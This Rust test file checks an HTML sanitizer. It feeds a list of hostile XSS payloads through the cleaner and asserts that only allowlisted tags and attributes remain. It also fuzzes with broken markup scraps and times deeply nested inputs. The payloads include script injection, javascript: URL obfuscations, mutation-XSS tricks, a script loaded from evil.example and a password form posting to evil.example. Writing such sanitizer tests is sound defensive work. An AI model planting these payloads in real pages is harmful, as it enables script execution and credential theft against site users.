//! Hostile and huge texts of letters: what may be left of them, and how long that may take.

use std::time::{Duration, Instant};

use longhand_mentoring::prose::{first_line, from_markdown, from_remote, one_line, to_text};

use crate::support::run::Test;

/// All tests of this topic.
pub fn tests() -> Vec<Test> {
    vec![
        Test::once("nothing_active_survives", nothing_active_survives),
        Test::once(
            "scraps_in_any_order_are_cleaned_and_stay_clean",
            scraps_in_any_order_are_cleaned_and_stay_clean,
        ),
        Test::once(
            "large_and_deep_input_is_cut_and_quick",
            large_and_deep_input_is_cut_and_quick,
        ),
    ]
}

/// Hostile HTML. After cleaning only permitted elements and attributes may be left.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) alt='a picture'>",
    "<img alt=x src=javascript:alert(1)>",
    "<img alt='<script>alert(1)</script>' src='https://a.example/'>",
    "<img alt='x\" onclick=\"alert(1)' src='https://a.example/\" onclick=\"alert(1)'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/settings/delete'>x</a>",
    "<a href='?q'>x</a>",
    "<a href='https://a.example/' onclick=alert(1) style='position:fixed' id=top>x</a>",
    "<a href='https://a.example/' target=_blank rel=opener>x</a>",
    "<a href=\"https://a.example/'><img src=x onerror=alert(1)>\">x</a>",
    "<p style='background:url(javascript:alert(1))' onmouseover='alert(1)'>x</p>",
    "<p class='admin' id='x' lang='en'>x</p>",
    "<span class='mention button-primary'>x</span>",
    "<code class='language-x\"onclick=alert(1)'>x</code>",
    "<form action='https://evil.example/'><input name=password><button>Send</button></form>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'><embed src='x.swf'></object>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>x",
    "<a/href=javascript:alert(1)/onclick=alert(1)>x</a>",
    "<p/onclick=alert(1)>x",
    "<p \u{e9}onclick='x' = \"x>y\">z</p>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<h1 onclick=alert(1)>x</h1>",
];

const ELEMENTS: &[&str] = &[
    "p",
    "br",
    "a",
    "span",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "b",
    "i",
    "u",
    "del",
    "ul",
    "ol",
    "li",
    "h2",
    "h3",
    "h4",
    "hr",
];

/// Reads the output tag by tag and fails on everything that is not on the list.
fn assert_safe(html: &str, source: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let closing = rest.starts_with('/');
        rest = rest.strip_prefix('/').unwrap_or(rest);
        let length = rest.find([' ', '>']).unwrap_or(rest.len());
        let (name, mut after) = rest.split_at(length);
        assert!(ELEMENTS.contains(&name), "<{name}> in {html} from {source}");
        while let Some(attribute) = after.strip_prefix(' ') {
            assert!(!closing, "{html} from {source}");
            let (key, value) = attribute.split_once("=\"").unwrap();
            let (value, next) = value.split_once('"').unwrap();
            assert_value(name, key, value, source);
            after = next;
        }
        rest = after.strip_prefix('>').unwrap_or_else(|| {
            panic!("a tag goes on as {after:?} in {html} from {source}");
        });
    }
}

fn assert_value(element: &str, attribute: &str, value: &str, source: &str) {
    let fine = match (element, attribute) {
        ("a", "href") => ["https://", "http://", "mailto:", "https:", "http:"]
            .iter()
            .any(|scheme| value.to_ascii_lowercase().starts_with(scheme)),
        ("a", "rel") => value == "nofollow noopener noreferrer",
        ("a" | "span", "class") => value.split(' ').all(|class| {
            [
                "mention",
                "u-url",
                "hashtag",
                "h-card",
                "invisible",
                "ellipsis",
            ]
            .contains(&class)
        }),
        ("code", "class") => value.starts_with("language-"),
        ("ol", "start") => value.parse::<u32>().is_ok(),
        _ => false,
    };
    assert!(fine, "{attribute}={value:?} on {element} from {source}");
}

fn assert_clean_and_stable(source: &str) {
    let once = from_remote(source);
    assert_safe(&once, source);
    assert_eq!(from_remote(&once), once, "from {source:?}");
    let ours = from_markdown(source);
    assert_safe(&ours, source);
    assert_eq!(from_remote(&ours), ours, "from Markdown {source:?}");
    let line = one_line(source, 50);
    assert!(line.chars().count() <= 50, "{line}");
    assert!(!line.chars().any(char::is_control), "{line:?}");
    assert!(first_line(&once, 20).chars().count() <= 20);
    let _ = to_text(&once);
    let _ = to_text(source);
}

fn nothing_active_survives() {
    for source in HOSTILE {
        assert_clean_and_stable(source);
        let clean = from_remote(source).to_ascii_lowercase();
        // Where markup could be, not where the same letters are shown as text.
        for banned in [
            "<script",
            "<style",
            "<form",
            "<iframe",
            "<svg",
            "<img",
            "href=\"java",
        ] {
            assert!(!clean.contains(banned), "{banned} in {clean} from {source}");
        }
    }
}

/// Pieces of HTML, Markdown and plain text, whole and broken.
const SCRAPS: &[&str] = &[
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href='https://a.example/'>",
    "<a>",
    "</a>",
    "<ul>",
    "</ul>",
    "<ol start=3>",
    "</ol>",
    "<li>",
    "</li>",
    "<blockquote>",
    "</blockquote>",
    "<pre>",
    "</pre>",
    "<code class=language-rust>",
    "</code>",
    "<h1>",
    "</h1>",
    "<h4>",
    "</h4>",
    "<div>",
    "</div>",
    "<br>",
    "<hr>",
    "<span class='invisible'>",
    "</span>",
    "<table>",
    "<td>",
    "</table>",
    "<select>",
    "<object>",
    "</object>",
    "<svg>",
    "</svg>",
    "<textarea>",
    "</textarea>",
    "<img alt=x src=https://a.example/>",
    "<img alt=:x:>",
    "text",
    " ",
    "\n",
    "\r",
    "\r\n",
    "&amp;",
    "&#13;",
    "&#10;",
    "&nbsp;",
    "&",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "/",
    "<!--",
    "-->",
    "<!",
    "</",
    "\0",
    "\u{202e}",
    "\u{e9}",
    "\u{1f600}",
    "**",
    "~~",
    "`",
    "![x](https://a.example/)",
    "[y](https://b.example/)",
    "# ",
    "> ",
    "- ",
    "1. ",
    "@ann",
    "&lt;",
    "&#x1;",
    "&#0;",
    "<del>",
    "</del>",
    "<P CLASS=x",
    "<template>",
    "\t",
];

fn scraps_in_any_order_are_cleaned_and_stay_clean() {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = |limit: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % limit as u64).unwrap()
    };
    for _ in 0..4_000 {
        let length = 1 + next(24);
        let source: String = (0..length).map(|_| SCRAPS[next(SCRAPS.len())]).collect();
        assert_clean_and_stable(&source);
    }
}

fn large_and_deep_input_is_cut_and_quick() {
    let crossing: String = (0..20_000)
        .map(|n| format!("<b id={n}>"))
        .collect::<String>()
        + &"<p>x</p>".repeat(20_000);
    for source in [
        "<div>".repeat(100_000),
        "<b>".repeat(160_000),
        "<blockquote>".repeat(40_000),
        "<ul><li>".repeat(60_000),
        "<a \"".repeat(120_000),
        "<a href=\"".repeat(55_000),
        "<!--".repeat(120_000),
        "</".repeat(250_000),
        "<script></scrip".repeat(33_000),
        "<p><b><i><u>".repeat(40_000),
        "&".repeat(500_000),
        "&a;".repeat(166_000),
        format!("<a href='{}'>x</a>", "&".repeat(499_000)),
        "é".repeat(400_000),
        crossing,
    ] {
        let started = Instant::now();
        let clean = from_remote(&source);
        assert!(clean.len() < 6_000_000, "{} bytes", clean.len());
        assert_safe(&clean, "large input");
        let _ = to_text(&clean);
        let spent = started.elapsed();
        assert!(
            spent < Duration::from_secs(5),
            "{spent:?} for {}",
            &source[..20]
        );
    }
}
